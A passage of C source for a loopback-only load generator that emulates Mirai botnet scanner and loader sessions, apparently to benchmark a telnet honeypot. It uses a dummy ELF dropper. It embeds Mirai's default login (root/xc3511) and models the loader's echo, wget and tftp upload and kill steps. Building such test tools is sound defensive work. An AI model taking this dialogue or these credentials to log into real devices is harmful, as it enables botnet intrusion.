	case ST_ARM_SUBTYPE:
	case ST_UPLOAD_METHODS: return loader_methods(r, c);
	case ST_UPLOAD_ECHO:
	case ST_UPLOAD_WGET:
	case ST_UPLOAD_TFTP: return loader_upload(r, c);
	case ST_RUN_BINARY:
	case ST_CLEANUP: return loader_finish(r, c);
	default: return loader_login(r, c);
	}
}

/* ---- the event loop ---- */

/* Runs the dialogue over what the buffer holds until a step consumes nothing. */
static void consume_all(struct run *r, struct conn *c)
{
	while (c->fd >= 0 && c->step != ST_HELD) {
		int n = r->o.mode == MODE_LOADER ? loader_consume(r, c) : scanner_consume(r, c);
		if (c->fd < 0 || n <= 0)
			return;
		size_t k = (size_t)n < c->pos ? (size_t)n : c->pos;
		memmove(c->buf, c->buf + k, c->pos - k);
		c->pos -= k;
	}
}

static void on_readable(struct run *r, struct conn *c)
{
	bool scanner_buf = r->o.mode != MODE_LOADER;
	for (int k = 0; k < READS_PER_EVENT && c->fd >= 0; k++) {
		if (c->step == ST_HELD)
			c->pos = 0; /* a held connection's output is read and dropped */
		if (c->pos == c->cap) {
			if (!scanner_buf) {
				conn_fail(r, c, R_BUFFER);
				return;
			}
			memmove(c->buf, c->buf + SCAN_DRAIN, c->cap - SCAN_DRAIN);
			c->pos -= SCAN_DRAIN;
		}
		ssize_t n = read(c->fd, c->buf + c->pos, c->cap - c->pos);
		if (n < 0 && (errno == EAGAIN || errno == EINTR))
			return;
		if (n <= 0) {
			conn_fail(r, c, R_CLOSED);
			return;
		}
		if (scanner_buf) /* the scanner's recv_strip_null */
			for (ssize_t i = 0; i < n; i++)
				if (c->buf[c->pos + (size_t)i] == 0)
					c->buf[c->pos + (size_t)i] = 'A';
		c->pos += (size_t)n;
		consume_all(r, c);
	}
}

static void on_event(struct run *r, struct conn *c, uint32_t events)
{
	if (c->fd < 0)
		return;
	if (c->step == ST_CONNECT) {
		int err = 0;
		socklen_t len = sizeof(err);
		if (getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len) != 0 || err != 0) {
			conn_fail(r, c, R_REFUSED);
			return;
		}
		struct epoll_event ev = {.events = EPOLLIN, .data.ptr = c};
		epoll_ctl(r->epfd, EPOLL_CTL_MOD, c->fd, &ev);
		advance(r, c, ST_IACS, false);
		return;
	}
	if (events & (EPOLLIN | EPOLLERR | EPOLLHUP))
		on_readable(r, c);
}

/* Opens a session in a free slot; false when no socket could be had. */
static bool conn_open(struct run *r)
{
	if (r->nfree == 0)
		return false;
	struct conn *c = &r->conns[r->free_slots[r->nfree - 1]];
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return false;
	r->nfree--;
	uint8_t *buf = c->buf;
	size_t cap = c->cap;
	memset(c, 0, sizeof(*c));
	c->buf = buf;
	c->cap = cap;
	c->fd = fd;
	c->step = ST_CONNECT;
	c->step_us = now_us();
	r->started++;
	struct sockaddr_in src = {.sin_family = AF_INET};
	src.sin_addr.s_addr = htonl(0x7f000001u + (r->src_rot++ % 250));
	bind(fd, (struct sockaddr *)&src, sizeof(src));
	/* Nagle off: Mirai's two small writes (a line, then "\r\n") must not wait for an ACK,
	 * or the client's own TCP timers would count in the server's latency. */
	int one = 1;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	struct sockaddr_in dst = {.sin_family = AF_INET, .sin_port = htons((uint16_t)r->o.port)};
	dst.sin_addr = r->o.host;
	if (connect(fd, (struct sockaddr *)&dst, sizeof(dst)) != 0 && errno != EINPROGRESS) {
		conn_fail(r, c, R_REFUSED);
		return true;
	}
	struct epoll_event ev = {.events = EPOLLOUT, .data.ptr = c};
	epoll_ctl(r->epfd, EPOLL_CTL_ADD, fd, &ev);
	return true;
}

/* Step timeouts, the drain limit and the loader's deferred "\r\n". */
static void check_timers(struct run *r, bool give_up)
{
	uint64_t now = now_us();
	for (int i = 0; i < r->nconns; i++) {
		struct conn *c = &r->conns[i];
		if (c->fd < 0 || c->step == ST_HELD)
			continue;
		if (give_up) {
			conn_fail(r, c, R_UNFINISHED);
		} else if (now - c->step_us > r->o.step_timeout_us) {
			conn_fail(r, c, R_TIMEOUT);
		} else if (c->crlf_due && now >= c->crlf_due) {
			c->crlf_due = 0;
			send_str(r, c, "\r\n");
		}
	}
}

static void poll_once(struct run *r, int timeout_ms)
{
	struct epoll_event evs[256];
	int n = epoll_wait(r->epfd, evs, 256, timeout_ms);
	for (int i = 0; i < n; i++)
		if (evs[i].data.ptr)
			on_event(r, evs[i].data.ptr, evs[i].events);
}

/* Scanner and loader modes: keeps `concurrency` sessions running until the time (or the number
 * of sessions) is reached, then lets those under way finish, fail or run out of drain time. */
static double run_sessions(struct run *r)
{
	uint64_t start = now_us(), deadline = start + (uint64_t)(r->o.seconds * 1e6);
	uint64_t last_tick = start, stopped = 0;
	for (;;) {
		uint64_t now = now_us();
		bool more = r->o.sessions ? r->started < r->o.sessions : now < deadline;
		if (more) {
			/* At most one attempt per free slot and turn: a refused connect frees its
			 * slot at once. */
			for (int k = r->nfree;
			     k > 0 && (!r->o.sessions || r->started < r->o.sessions); k--)
				if (!conn_open(r))
					break;
		} else {
			if (!stopped)
				stopped = now;
			if (r->nfree == r->nconns)
				break;
			if (now - stopped > r->o.drain_us) {
				check_timers(r, true);
				break;
			}
		}
		poll_once(r, 10);
		if (now_us() - last_tick >= TIMER_TICK_US) {
			last_tick = now_us();
			check_timers(r, false);
		}
	}
	return (double)(now_us() - start) / 1e6;
}

/* Idle modes: opens the connections gradually (so the listen backlog never overflows), waits
 * until each is held or has failed, reports, then holds them until stdin closes. */
static double run_idle(struct run *r)
{
	uint64_t start = now_us(), deadline = start + (uint64_t)(r->o.seconds * 1e6);
	uint64_t last_tick = start;
	while ((long)(r->held + r->held_lost + r->failed) < r->o.idle && now_us() < deadline) {
		for (int k = 0; k < OPENS_PER_TURN && (long)r->started < r->o.idle; k++)
			if (!conn_open(r))
				break;
		poll_once(r, 10);
		if (now_us() - last_tick >= TIMER_TICK_US) {
			last_tick = now_us();
			check_timers(r, false);
		}
	}
	double secs = (double)(now_us() - start) / 1e6;
	check_timers(r, true); /* what is neither held nor failed by now counts as unfinished */
	return secs;
}

static void hold_until_stdin_closes(struct run *r)
{
	struct epoll_event ev = {.events = EPOLLIN, .data.ptr = NULL};
	char tmp[64];
	/* A file or /dev/null cannot be polled: it reads as at its end at once. */
	if (epoll_ctl(r->epfd, EPOLL_CTL_ADD, 0, &ev) != 0 && read(0, tmp, sizeof(tmp)) <= 0)
		return;
	for (;;) {
		struct epoll_event evs[256];
		int n = epoll_wait(r->epfd, evs, 256, 1000);
		for (int i = 0; i < n; i++) {
			if (evs[i].data.ptr) {
				on_event(r, evs[i].data.ptr, evs[i].events);
				continue;
			}
			if (read(0, tmp, sizeof(tmp)) <= 0)
				return;
		}
	}
}

static int cmp_u32(const void *a, const void *b)
{
	uint32_t x = *(const uint32_t *)a, y = *(const uint32_t *)b;
	return x < y ? -1 : x > y;
}

static void print_failures(const struct run *r)
{
	for (int s = 0; s < ST_COUNT; s++)
		for (int w = 0; w < R_COUNT; w++)
			if (r->failures[s][w])
				printf("failed.%s.%s=%llu\n", step_names[s], reason_names[w],
				       (unsigned long long)r->failures[s][w]);
}

static void print_report(struct run *r, double secs)
{
	static const char *const modes[] = {"scanner", "loader", "idle", "idle-shell"};
	printf("mode=%s\nstarted=%llu\nfailed=%llu\nseconds=%.3f\n", modes[r->o.mode],
	       (unsigned long long)r->started, (unsigned long long)r->failed, secs);
	print_failures(r);
	if (r->o.mode == MODE_IDLE || r->o.mode == MODE_IDLE_SHELL) {
		printf("idle_connections=%llu\nready=1\n", (unsigned long long)r->held);
		return;
	}
	printf("completed=%llu\nsessions_per_s=%.1f\n", (unsigned long long)r->completed,
	       secs > 0 ? (double)r->completed / secs : 0.0);
	if (r->nlat) {
		qsort(r->lat, r->nlat, sizeof(*r->lat), cmp_u32);
		printf("commands=%zu\np50_us=%u\np99_us=%u\nmax_us=%u\n", r->nlat,
		       r->lat[r->nlat / 2], r->lat[(size_t)((double)r->nlat * 0.99)],
		       r->lat[r->nlat - 1]);
	}
	if (r->o.mode != MODE_LOADER)
		return;
	for (int u = 0; u < UP_COUNT; u++)
		printf("mirai_upload.%s=%llu\n", upload_names[u],
		       (unsigned long long)r->mirai_upload[u]);
	for (size_t a = 0; a < N_ARCH; a++)
		if (r->arch_seen[a])
			printf("arch.%s=%llu\n", arch_names[a],
			       (unsigned long long)r->arch_seen[a]);
	printf("kills_sent=%llu\npayload_ran=%llu\narm_retries=%llu\n",
	       (unsigned long long)r->kills, (unsigned long long)r->payload_ran,
	       (unsigned long long)r->arm_retries);
}

/* The dropper the loader echoes: an ELF header and pseudo-random bytes, as "\xNN" text in
 * lines of 128 bytes (the loader's hex_payloads). */
static void build_dropper(struct run *r)
{
	uint8_t bin[DROPPER_BYTES];
	uint32_t x = 2463534242u;
	for (size_t i = 0; i < sizeof(bin); i++) {
		x ^= x << 13, x ^= x >> 17, x ^= x << 5;
		bin[i] = (uint8_t)x;
	}
	memcpy(bin, "\177ELF\001\001\001", 7);
	r->nhex = DROPPER_BYTES / ECHO_LINE_BYTES;
	for (int l = 0; l < r->nhex; l++)
		for (int i = 0; i < ECHO_LINE_BYTES; i++)
			snprintf(r->hex_lines[l] + 4 * i, 5, "\\x%02x",
				 bin[l * ECHO_LINE_BYTES + i]);
}

static bool loopback(const char *s, struct in_addr *out)
{
	return inet_pton(AF_INET, s, out) == 1 && (ntohl(out->s_addr) >> 24) == 127;
}

static int usage(void)
{
	fprintf(stderr, "usage: loadgen -p PORT [-h 127.x.y.z] [-m scanner|loader|idle|idle-shell] "
			"[-c CONCURRENCY] [-n SESSIONS] [-t SECONDS] [-T STEP_TIMEOUT_MS] "
			"[-G DRAIN_MS] [-D CRLF_DELAY_MS] [-u USER] [-P PASSWORD] [-i IDLE] "
			"[-U echo|auto] [-w FETCH_HOST:PORT]\n");
	return 2;
}

static int parse_args(struct opts *o, int argc, char **argv)
{
	*o = (struct opts){.mode = MODE_SCANNER,
			   .concurrency = 128,
			   .seconds = 10,
			   .step_timeout_us = 10000000u,
			   .drain_us = 30000000u,
			   .crlf_delay_us = 1000000u,
			   .user = "root",
			   .password = "xc3511",
			   .idle = 10000,
			   .fetch_host = "127.0.0.1",
			   .fetch_port = 80};
	inet_pton(AF_INET, "127.0.0.1", &o->host);
	bool seconds_set = false;
	int opt;
	while ((opt = getopt(argc, argv, "p:h:m:c:n:t:T:G:D:u:P:i:U:w:")) != -1) {
		switch (opt) {
		case 'p': o->port = atoi(optarg); break;
		case 'h':
			if (!loopback(optarg, &o->host)) {
				fprintf(stderr, "loadgen: -h takes a 127.0.0.0/8 address only\n");
				return -1;
			}
			break;
		case 'm':
			if (!strcmp(optarg, "scanner"))
				o->mode = MODE_SCANNER;
			else if (!strcmp(optarg, "loader"))
				o->mode = MODE_LOADER;
			else if (!strcmp(optarg, "idle"))
				o->mode = MODE_IDLE;
			else if (!strcmp(optarg, "idle-shell"))
				o->mode = MODE_IDLE_SHELL;
			else
				return -1;
			break;
		case 'c': o->concurrency = atoi(optarg); break;
		case 'n': o->sessions = strtoull(optarg, NULL, 10); break;
		case 't':
			o->seconds = atof(optarg);
			seconds_set = true;
			break;
		case 'T': o->step_timeout_us = strtoull(optarg, NULL, 10) * 1000u; break;
		case 'G': o->drain_us = strtoull(optarg, NULL, 10) * 1000u; break;
		case 'D': o->crlf_delay_us = strtoull(optarg, NULL, 10) * 1000u; break;
		case 'u': o->user = optarg; break;
		case 'P': o->password = optarg; break;
		case 'i': o->idle = atol(optarg); break;
		case 'U':
			if (strcmp(optarg, "auto") != 0 && strcmp(optarg, "echo") != 0)
				return -1;
			o->upload_auto = !strcmp(optarg, "auto");
			break;
		case 'w': {
			struct in_addr a;
			char *colon = strrchr(optarg, ':');
			if (!colon || (size_t)(colon - optarg) >= sizeof(o->fetch_host))
				return -1;
			snprintf(o->fetch_host, sizeof(o->fetch_host), "%.*s",
				 (int)(colon - optarg), optarg);
			o->fetch_port = atoi(colon + 1);
			if (!loopback(o->fetch_host, &a)) {
				fprintf(stderr, "loadgen: -w takes a 127.0.0.0/8 address only\n");
				return -1;
			}
			break;
		}
		default: return -1;
		}
	}
	if (o->port <= 0 || o->port > 65535 || o->concurrency <= 0 || o->idle <= 0 ||
	    strlen(o->user) > 200 || strlen(o->password) > 200)
		return -1;
	if ((o->mode == MODE_IDLE || o->mode == MODE_IDLE_SHELL) && !seconds_set)
		o->seconds = 60; /* idle modes: how long opening the connections may take */
	return 0;
}

int main(int argc, char **argv)
{
	static struct run run;
	struct run *r = &run;
	if (parse_args(&r->o, argc, argv) != 0)
		return usage();
	signal(SIGPIPE, SIG_IGN);
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	build_dropper(r);
	bool idle = r->o.mode == MODE_IDLE || r->o.mode == MODE_IDLE_SHELL;
	r->nconns = idle ? (int)r->o.idle : r->o.concurrency;
	size_t cap = r->o.mode == MODE_LOADER ? LOAD_BUF : SCAN_BUF;
	r->conns = calloc((size_t)r->nconns, sizeof(*r->conns));
	r->free_slots = calloc((size_t)r->nconns, sizeof(int));
	uint8_t *bufs = malloc((size_t)r->nconns * cap);
	r->lat = malloc(sizeof(*r->lat) * MAX_LAT);
	r->epfd = epoll_create1(EPOLL_CLOEXEC);
	if (!r->conns || !r->free_slots || !bufs || !r->lat || r->epfd < 0) {
		fprintf(stderr, "loadgen: out of memory\n");
		return 1;
	}
	/* Slots are taken from the end of the free list: fill it so slot 0 goes first. */
	for (int i = 0; i < r->nconns; i++) {
		r->conns[i].fd = -1;
		r->conns[i].buf = bufs + (size_t)i * cap;
		r->conns[i].cap = cap;
		r->free_slots[i] = r->nconns - 1 - i;
	}
	r->nfree = r->nconns;
	double secs = idle ? run_idle(r) : run_sessions(r);
	print_report(r, secs);
	fflush(stdout);
	if (idle) {
		hold_until_stdin_closes(r);
		printf("idle_lost=%llu\n", (unsigned long long)r->held_lost);
	}
	return 0;
}
